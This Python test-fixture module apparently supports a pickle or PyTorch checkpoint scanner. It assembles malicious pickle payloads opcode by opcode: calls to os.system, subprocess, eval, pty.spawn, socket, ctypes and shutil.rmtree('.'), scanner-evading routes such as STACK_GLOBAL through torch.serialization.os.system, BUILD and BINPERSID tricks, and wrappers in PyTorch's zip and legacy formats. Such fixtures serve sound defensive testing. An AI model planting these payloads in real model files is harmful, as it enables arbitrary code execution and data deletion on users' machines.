"""Pickles that run code when anything but a careful reader loads them, put together opcode by opcode.

Nothing here is unpickled by the tests; the globals are names and need not exist.
"""

import io
import pickle
import struct
import sys
import zipfile
from collections.abc import Mapping
from pathlib import Path

TORCH_MAGIC = 0x1950A86A20F9469CFC6C
TORCH_PROTOCOL = 1001


def fragment(value: object) -> bytes:
    """Returns the opcodes that push a plain value."""
    return pickle.dumps(value, 2)[2:-1]


def name(module: str, attribute: str) -> bytes:
    """Returns the opcode that pushes a global."""
    return f"c{module}\n{attribute}\n".encode()


def gadgets(proof: Path) -> dict[str, bytes]:
    """Returns calls that would leave a proof, or do other harm, by name; each pushes one value."""
    touch = f"open({str(proof)!r}, 'w')"
    shell = f"touch '{proof}'"
    inner = b"\x80\x02" + name("os", "mkdir") + fragment((str(proof),)) + b"R."
    calls: dict[str, tuple[str, str, tuple[object, ...]]] = {
        "os.system": ("os", "system", (shell,)),
        "posix.system": ("posix", "system", (shell,)),
        "os.mkdir": ("os", "mkdir", (str(proof),)),
        "os.popen": ("os", "popen", (shell,)),
        "os.execv": ("os", "execv", ("/usr/bin/touch", ["touch", str(proof)])),
        "subprocess.Popen": ("subprocess", "Popen", (["touch", str(proof)],)),
        "subprocess.check_output": ("subprocess", "check_output", (["touch", str(proof)],)),
        "builtins.eval": ("builtins", "eval", (touch,)),
        "builtins.exec": ("builtins", "exec", (touch,)),
        "builtins.open": ("builtins", "open", (str(proof), "w")),
        "builtins.__import__": ("builtins", "__import__", ("planted",)),
        "builtins.getattr": ("builtins", "getattr", (str(proof), "upper")),
        "python2.eval": ("__builtin__", "eval", (touch,)),
        "importlib.import_module": ("importlib", "import_module", ("planted",)),
        "runpy.run_path": ("runpy", "run_path", ("planted.py",)),
        "runpy.run_module": ("runpy", "run_module", ("planted",)),
        "planted.build": ("planted", "build", ()),
        "pty.spawn": ("pty", "spawn", ([f"touch {proof}"],)),
        "webbrowser.open": ("webbrowser", "open", ("http://127.0.0.1:9/",)),
        "socket.create_connection": ("socket", "create_connection", (("127.0.0.1", 9),)),
        "shutil.rmtree": ("shutil", "rmtree", (".",)),
        "operator.attrgetter": ("operator", "attrgetter", ("system",)),
        "functools.partial": ("functools", "partial", (touch,)),
        "codecs.decode": ("codecs", "decode", (b"cf", "rot13")),
        "pickle.loads": ("pickle", "loads", (inner,)),
        "torch.load": ("torch", "load", ("weights.pth",)),
        "torch.storage._load_from_bytes": ("torch.storage", "_load_from_bytes", (inner,)),
        "torch.hub.load": ("torch.hub", "load", ("planted", "planted")),
        "torch.ops.load_library": ("torch._ops", "ops.load_library", ("planted.so",)),
        "torch.classes.load_library": ("torch._classes", "classes.load_library", ("planted.so",)),
        "torch.nn.Linear": ("torch.nn.modules.linear", "Linear", (2, 2)),
        "torch.fx.GraphModule": ("torch.fx.graph_module", "reduce_graph_module", ({"_code": touch}, "")),
        "numpy.load": ("numpy", "load", ("planted.npy",)),
        "ctypes.CDLL": ("ctypes", "CDLL", ("planted.so",)),
        "multiprocessing.Process": ("multiprocessing.context", "Process", ()),
        "argparse.FileType": ("argparse", "FileType", ("w",)),
    }
    return {key: name(module, attribute) + fragment(args) + b"R" for key, (module, attribute, args) in calls.items()}


def vectors(proof: Path) -> dict[str, bytes]:
    """Returns ways other than REDUCE to reach a global, and places other than the top to put a call."""
    system, arguments = name("os", "system"), fragment((f"touch '{proof}'",))
    call = system + arguments + b"R"
    ordered = name("collections", "OrderedDict") + fragment(()) + b"R"
    namespace = name("argparse", "Namespace") + fragment(()) + b"\x81"
    text = fragment("touch")
    return {
        "NEWOBJ": system + arguments + b"\x81",
        "NEWOBJ_EX": system + arguments + fragment({}) + b"\x92",
        "OBJ": b"(" + system + fragment(f"touch '{proof}'") + b"o",
        "INST": b"(" + fragment(f"touch '{proof}'") + b"ios\nsystem\n",
        "STACK_GLOBAL": fragment("os") + fragment("system") + b"\x93" + arguments + b"R",
        "STACK_GLOBAL, dotted": fragment("torch") + fragment("serialization.os.system") + b"\x93" + arguments + b"R",
        "GLOBAL, dotted": name("torch", "serialization.os.system") + arguments + b"R",
        "GLOBAL, of a module": name("torch.serialization", "os") + b"0" + call,
        "EXT1": b"\x82\x01" + arguments + b"R",
        "BUILD with a call": ordered + call + b"b",
        "BUILD of __reduce__": ordered + fragment({"__reduce__": None}) + call + b"b",
        "BUILD of a namespace": namespace + b"}" + text + call + b"sb",
        "BUILD of a namespace's class": namespace + b"}" + fragment("__class__") + call + b"sb",
        "a call as key": b"}" + call + fragment(1) + b"s",
        "a call as value": b"}" + text + call + b"s",
        "a call in a list": b"](" + call + b"e",
        "a call in a tuple": call + b"\x85",
        "a call in a set": b"\x8f(" + call + b"\x90",
        "a call in an ordered dictionary": ordered + text + call + b"s",
        "a call that is thrown away": call + b"0}",
        "a call of a call": name("builtins", "getattr") + call + text + b"\x86R" + fragment(()) + b"R",
        "BINPERSID of a call": call + b"Q",
        "BINPERSID of another kind": fragment(("module", "planted", "planted.py", "")) + b"Q",
        "PERSID": b"Pstorage\n",
    }


def zipped(pickled: bytes, extra: Mapping[str, bytes] | None = None, folder: str = "archive") -> bytes:
    """Returns PyTorch's zip format around a pickle."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        entries = {"data.pkl": pickled, "byteorder": sys.byteorder.encode(), "version": b"3\n", **(extra or {})}
        for entry, content in entries.items():
            archive.writestr(f"{folder}/{entry}", content)
    return buffer.getvalue()


def old_format(pickled: bytes, keys: object = (), storages: bytes = b"") -> bytes:
    """Returns PyTorch's format before version 1.6: pickles one after another, then the storages."""
    system = {"protocol_version": TORCH_PROTOCOL, "little_endian": True, "type_sizes": {"short": 2, "int": 4}}
    head = b"".join(pickle.dumps(value, 2) for value in (TORCH_MAGIC, TORCH_PROTOCOL, system))
    return head + pickled + pickle.dumps(list(keys) if isinstance(keys, tuple) else keys, 2) + storages


def whole(pushed: bytes) -> bytes:
    """Returns a pickle of a checkpoint that holds the pushed value beside weights."""
    return b"\x80\x02}" + fragment("model") + pushed + b"s."


def storage_of(key: str, count: int, kind: str = "FloatStorage", *, viewed: bool = False) -> bytes:
    """Returns the opcodes that push a storage of the file; ``viewed`` as the old format has it."""
    parts = fragment("storage") + name("torch", kind) + fragment(key) + fragment("cpu") + fragment(count)
    parts += b"N" if viewed else b""
    return b"(" + parts + b"tQ"


def tensor(
    size: tuple[object, ...] = (4,),
    stride: tuple[int, ...] = (1,),
    *,
    count: int = 4,
    offset: int = 0,
    key: str = "0",
    kind: str = "FloatStorage",
    viewed: bool = False,
) -> bytes:
    """Returns the opcodes that push a tensor with sizes of our choice on a storage of so many values."""
    hooks = name("collections", "OrderedDict") + fragment(()) + b"R"
    arguments = (
        storage_of(key, count, kind, viewed=viewed)
        + fragment(offset)
        + fragment(size)
        + fragment(stride)
        + b"\x89"
        + hooks
    )
    return name("torch._utils", "_rebuild_tensor_v2") + b"(" + arguments + b"tR"


def weights(pushed: bytes, entry: str = "0.weight") -> bytes:
    """Returns a pickle whose one weight is the pushed value."""
    return b"\x80\x02}" + fragment(entry) + pushed + b"s."


def floats(*values: float) -> bytes:
    return struct.pack(f"<{len(values)}f", *values)
